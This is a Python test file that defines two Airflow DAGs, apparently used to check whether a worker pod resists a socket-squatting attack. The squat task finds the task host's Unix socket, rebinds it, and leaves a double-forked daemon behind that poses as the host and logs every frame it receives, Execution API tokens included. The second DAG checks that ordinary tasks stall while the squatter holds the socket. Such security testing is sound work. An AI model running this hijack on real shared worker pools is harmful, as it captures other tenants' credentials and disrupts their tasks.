"""airflow DAGs for the docker stage's worker Pod (test_pod.py): a task that attacks the link
between the agent and its task host, and an ordinary task to run after it.

``docker_socket_squat``'s task does what any DAG author's task could on a shared pool: it finds
the task host's socket on PID 1's command line (``--socket``) and takes it — a file it unlinks
and binds again, an abstract name (``@...``) it binds — then leaves a daemon behind (a double
fork into a session of its own: it outlives the task) that answers every agent connecting to it
with a welcome and records every frame it receives (``start`` frames carry each task's workload,
Execution API token included) in ``squat-capture`` in the log folder, where the test reads it.
The task itself succeeds either way and prints what happened: ``astro-socket-squat: took ...``
or ``astro-socket-squat: refused (...)``.

``docker_after_squat``'s task only has to run: while a squatter holds the agent's connection,
it never does.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import struct
from datetime import datetime

from airflow.sdk import DAG, get_current_context, task

CAPTURE = "squat-capture"
WELCOME = {"type": "welcome", "protocol": 2,
           "versions": {"airflow": None, "edge_provider": None, "problem": None}, "tasks": 0}


def task_host_socket() -> str:
    argv = open("/proc/1/cmdline", "rb").read().split(b"\0")
    return argv[argv.index(b"--socket") + 1].decode()


def take(name: str) -> socket.socket:
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    if name.startswith("@"):
        listener.bind("\0" + name[1:])
    else:
        os.unlink(name)
        listener.bind(name)
        os.chmod(name, 0o666)
    listener.listen(16)
    return listener


def frame(message: dict) -> bytes:
    body = json.dumps(message).encode()
    return struct.pack(">I", len(body)) + body


def read_exactly(conn: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = conn.recv(size - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data


def serve(listener: socket.socket, capture: str) -> None:
    """The squatter: one agent connection at a time, each answered as the task host would."""
    while True:
        conn, _ = listener.accept()
        try:
            first = True
            while True:
                (size,) = struct.unpack(">I", read_exactly(conn, 4))
                body = read_exactly(conn, size)
                with open(capture, "ab") as out:
                    out.write(body + b"\n")
                if first:
                    conn.sendall(frame(WELCOME))
                    first = False
        except (EOFError, OSError):
            conn.close()


def leave_behind(listener: socket.socket, capture: str) -> None:
    """A daemon the task's end does not stop: double fork, own session, no inherited pipes."""
    if os.fork() > 0:
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, listener.fileno())
    os.closerange(listener.fileno() + 1, 4096)
    try:
        serve(listener, capture)
    finally:
        os._exit(0)


@task
def squat() -> str:
    log_folder = get_current_context()["dag_run"].conf["log_folder"]
    name = task_host_socket()
    try:
        listener = take(name)
    except OSError as e:
        said = f"astro-socket-squat: refused ({errno.errorcode.get(e.errno, e.errno)}: {e.strerror}) on {name}"
        print(said, flush=True)
        return said
    leave_behind(listener, os.path.join(log_folder, CAPTURE))
    listener.close()
    said = f"astro-socket-squat: took {name}"
    print(said, flush=True)
    return said


@task
def ordinary() -> str:
    print("astro-after-squat: ran", flush=True)
    return "ran"


ON_THE_POD = {"queue": "pod", "retries": 0}

with DAG(dag_id="docker_socket_squat", schedule=None, start_date=datetime(2024, 1, 1), catchup=False,
         tags=["astro-docker"], default_args=ON_THE_POD):
    squat()

with DAG(dag_id="docker_after_squat", schedule=None, start_date=datetime(2024, 1, 1), catchup=False,
         tags=["astro-docker"], default_args=ON_THE_POD):
    ordinary()
